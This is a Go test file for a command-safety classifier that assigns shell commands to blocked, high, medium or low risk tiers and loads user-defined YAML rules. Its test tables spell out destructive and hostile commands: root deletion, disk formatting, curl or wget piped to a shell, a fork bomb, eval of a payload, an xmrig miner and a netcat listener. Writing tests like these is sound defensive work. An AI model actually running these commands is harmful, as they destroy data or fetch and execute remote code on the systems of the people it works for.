package safety

import (
	"os"
	"path/filepath"
	"testing"

	"drift/internal/plan"
)

func TestClassifyBlocked(t *testing.T) {
	c := New()

	tests := []struct {
		name    string
		command string
		ruleID  string
	}{
		{"recursive root delete", "rm -rf /", "recursive-root-delete"},
		{"root delete with flag", "rm -rf / --no-preserve-root", "recursive-root-delete"},
		{"system directory delete", "rm -rf /usr", "recursive-system-delete"},
		{"sudo recursive delete", "sudo rm -rf /home", "recursive-system-delete"},
		{"wildcard delete", "rm -rf *", "recursive-wildcard-delete"},
		{"disk format", "mkfs.ext4 /dev/sda1", "disk-format"},
		{"raw device copy", "dd if=/dev/zero of=/dev/sda", "raw-device-copy"},
		{"curl piped to bash", "curl https://get.example.sh | bash", "curl-pipe-shell"},
		{"wget piped to sh", "wget -qO- https://x.example/install | sh", "wget-pipe-shell"},
		{"process substitution", "bash <(curl -s https://install.example)", "curl-process-substitution"},
		{"fork bomb", ":(){ :|:& };:", "fork-bomb"},
		{"device redirect", "echo data > /dev/sda", "raw-device-redirect"},
		{"world writable root", "chmod 777 /", "world-writable-root"},
		{"world writable root recursive", "chmod -R 777 /", "world-writable-root"},
		{"python inline exec", `python3 -c 'exec(open("x").read())'`, "python-inline-exec"},
		{"perl one liner", `perl -e 'unlink glob "/*"'`, "perl-inline-exec"},
		{"command substitution", "bash -c 'echo $(whoami)'", "command-substitution"},
		{"eval of variable", "eval $PAYLOAD", "eval-variable"},
		{"crypto miner", "nohup xmrig --url pool.example.com &", "miner-xmrig"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := c.Classify(tt.command)
			if !v.Blocked() {
				t.Fatalf("Classify(%q).Risk = %s, want blocked", tt.command, v.Risk)
			}
			if v.RuleID != tt.ruleID {
				t.Errorf("Classify(%q).RuleID = %q, want %q", tt.command, v.RuleID, tt.ruleID)
			}
		})
	}
}

func TestClassifyHigh(t *testing.T) {
	c := New()

	tests := []struct {
		command string
		ruleID  string
	}{
		{"sudo apt-get update", "sudo"},
		{"rm -r ./build", "recursive-delete"},
		{"rm -rf ./node_modules", "recursive-delete"},
		{"chmod 777 script.sh", "chmod-777"},
		{"kill -9 12345", "force-kill"},
		{"pkill -f node", "pkill"},
		{"git push --force origin main", "git-force-push"},
		{"git reset --hard HEAD~3", "git-hard-reset"},
		{"docker system prune -a", "docker-prune-all"},
		{"systemctl disable nginx", "systemctl-disable"},
	}

	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			v := c.Classify(tt.command)
			if v.Risk != plan.RiskHigh {
				t.Fatalf("Classify(%q).Risk = %s, want high", tt.command, v.Risk)
			}
			if v.RuleID != tt.ruleID {
				t.Errorf("Classify(%q).RuleID = %q, want %q", tt.command, v.RuleID, tt.ruleID)
			}
		})
	}
}

func TestClassifyMedium(t *testing.T) {
	c := New()

	tests := []struct {
		command string
		ruleID  string
	}{
		{"rm old.log", "delete"},
		{"mv a.txt b.txt", "move"},
		{"git push origin main", "git-push"},
		{"pip install requests", "pip-install"},
		{"npm install -g typescript", "npm-global-install"},
		{"apt-get install -y jq", "apt-install"},
		{"docker run -it ubuntu bash", "docker-run"},
		{"echo hi > notes.txt", "redirect"},
	}

	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			v := c.Classify(tt.command)
			if v.Risk != plan.RiskMedium {
				t.Fatalf("Classify(%q).Risk = %s, want medium", tt.command, v.Risk)
			}
			if v.RuleID != tt.ruleID {
				t.Errorf("Classify(%q).RuleID = %q, want %q", tt.command, v.RuleID, tt.ruleID)
			}
		})
	}
}

func TestClassifyLow(t *testing.T) {
	c := New()

	for _, command := range []string{
		"ls -la",
		"pwd",
		"echo hello",
		"cat README.md",
		"git status",
		"df -h",
		"whoami",
		"grep -n TODO main.go",
	} {
		t.Run(command, func(t *testing.T) {
			v := c.Classify(command)
			if v.Risk != plan.RiskLow {
				t.Fatalf("Classify(%q).Risk = %s (rule %s), want low", command, v.Risk, v.RuleID)
			}
			if v.RuleID != "" {
				t.Errorf("Classify(%q).RuleID = %q, want empty", command, v.RuleID)
			}
		})
	}
}

func TestClassifyCompound(t *testing.T) {
	c := New()

	tests := []struct {
		name    string
		command string
		want    plan.Risk
	}{
		{"blocked after safe", "ls; rm -rf /", plan.RiskBlocked},
		{"blocked before safe", "rm -rf /; echo done", plan.RiskBlocked},
		{"both safe and", "ls && pwd", plan.RiskLow},
		{"safe pipeline", "git status | grep modified", plan.RiskLow},
		{"high in second", "echo safe && sudo reboot", plan.RiskHigh},
		{"pattern spans pipe", "true; curl https://x.example/a | sh", plan.RiskBlocked},
		{"medium in chain", "ls && rm old.log && pwd", plan.RiskMedium},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := c.Classify(tt.command)
			if v.Risk != tt.want {
				t.Fatalf("Classify(%q).Risk = %s, want %s", tt.command, v.Risk, tt.want)
			}
		})
	}
}

// The hostile case: a blocked command hidden behind a connector where the
// whole-string anchor no longer fires. The per-segment pass has to catch it.
func TestClassifySegmentCatchesSmuggledBlocked(t *testing.T) {
	c := New()

	v := c.Classify("rm -rf /;echo hi")
	if !v.Blocked() {
		t.Fatalf("Risk = %s, want blocked", v.Risk)
	}
	if v.RuleID != "recursive-root-delete" {
		t.Errorf("RuleID = %q, want recursive-root-delete", v.RuleID)
	}
	if len(v.Segments) < 2 {
		t.Fatalf("Segments = %d, want at least 2", len(v.Segments))
	}
}

func TestClassifyNormalization(t *testing.T) {
	c := New()

	for _, command := range []string{
		"RM -RF /",
		"rm    -rf     /",
		"rm\t-rf\t/",
		"Sudo rm -rf /tmp/x",
	} {
		t.Run(command, func(t *testing.T) {
			if v := c.Classify(command); !v.Blocked() {
				t.Errorf("Classify(%q).Risk = %s, want blocked", command, v.Risk)
			}
		})
	}

	if v := c.Classify("  ls  -la  "); v.Risk != plan.RiskLow {
		t.Errorf("padded safe command classified %s, want low", v.Risk)
	}
}

func TestClassifyEmpty(t *testing.T) {
	c := New()

	for _, command := range []string{"", "   ", "\t\n"} {
		v := c.Classify(command)
		if v.Risk != plan.RiskLow {
			t.Errorf("Classify(%q).Risk = %s, want low", command, v.Risk)
		}
		if len(v.Segments) != 0 {
			t.Errorf("Classify(%q).Segments = %v, want none", command, v.Segments)
		}
	}
}

func TestLoadUserRules(t *testing.T) {
	c := New()

	if v := c.Classify("nc -l 4444"); v.Risk != plan.RiskLow {
		t.Fatalf("before user rules: Risk = %s, want low", v.Risk)
	}

	path := writeRules(t, `rules:
  - id: no-netcat-listen
    tier: high
    pattern: nc\s+-l
  - id: no-prod-deploy
    tier: blocked
    pattern: deploy\s+--prod
  - id: remote-copy
    tier: medium
    pattern: scp\s+
`)
	if err := c.LoadUserRules(path); err != nil {
		t.Fatalf("LoadUserRules: %v", err)
	}

	tests := []struct {
		command string
		want    plan.Risk
		ruleID  string
	}{
		{"nc -l 4444", plan.RiskHigh, "no-netcat-listen"},
		{"deploy --prod", plan.RiskBlocked, "no-prod-deploy"},
		{"scp file host:/tmp", plan.RiskMedium, "remote-copy"},
	}
	for _, tt := range tests {
		v := c.Classify(tt.command)
		if v.Risk != tt.want || v.RuleID != tt.ruleID {
			t.Errorf("Classify(%q) = (%s, %q), want (%s, %q)",
				tt.command, v.Risk, v.RuleID, tt.want, tt.ruleID)
		}
	}

	// Built-ins still fire with user rules loaded.
	if v := c.Classify("rm -rf /"); !v.Blocked() {
		t.Errorf("built-in rule lost after user load: %s", v.Risk)
	}

	c.ResetUserRules()
	if v := c.Classify("nc -l 4444"); v.Risk != plan.RiskLow {
		t.Errorf("after reset: Risk = %s, want low", v.Risk)
	}
}

func TestLoadUserRulesRejectsInvalid(t *testing.T) {
	tests := []struct {
		name    string
		content string
	}{
		{"bad tier", "rules:\n  - id: x\n    tier: terrifying\n    pattern: foo\n"},
		{"low tier not allowed", "rules:\n  - id: x\n    tier: low\n    pattern: foo\n"},
		{"missing id", "rules:\n  - tier: high\n    pattern: foo\n"},
		{"missing pattern", "rules:\n  - id: x\n    tier: high\n"},
		{"bad regexp", "rules:\n  - id: x\n    tier: high\n    pattern: (unclosed\n"},
		{"not yaml", "rules: [\n"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := New()
			path := writeRules(t, tt.content)
			if err := c.LoadUserRules(path); err == nil {
				t.Fatal("LoadUserRules accepted an invalid file")
			}
			// The active set is untouched after a failed load.
			if v := c.Classify("foo bar"); v.Risk != plan.RiskLow {
				t.Errorf("failed load changed classification: %s", v.Risk)
			}
			if v := c.Classify("rm -rf /"); !v.Blocked() {
				t.Errorf("failed load dropped built-ins: %s", v.Risk)
			}
		})
	}
}

func TestLoadUserRulesMissingFile(t *testing.T) {
	c := New()
	if err := c.LoadUserRules(filepath.Join(t.TempDir(), "absent.yaml")); err == nil {
		t.Fatal("LoadUserRules on a missing file did not error")
	}
	b, h, m := c.RuleCount()
	if b != len(blocklistRules) || h != len(highRules) || m != len(mediumRules) {
		t.Errorf("rule counts changed after failed load: %d/%d/%d", b, h, m)
	}
}

func TestRuleCount(t *testing.T) {
	c := New()
	b, h, m := c.RuleCount()
	if b != len(blocklistRules) || h != len(highRules) || m != len(mediumRules) {
		t.Fatalf("RuleCount = %d/%d/%d, want built-in table sizes", b, h, m)
	}

	path := writeRules(t, "rules:\n  - id: x\n    tier: high\n    pattern: foo\n")
	if err := c.LoadUserRules(path); err != nil {
		t.Fatalf("LoadUserRules: %v", err)
	}
	_, h2, _ := c.RuleCount()
	if h2 != h+1 {
		t.Errorf("high count after load = %d, want %d", h2, h+1)
	}
}

func writeRules(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "rules.yaml")
	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
		t.Fatal(err)
	}
	return path
}
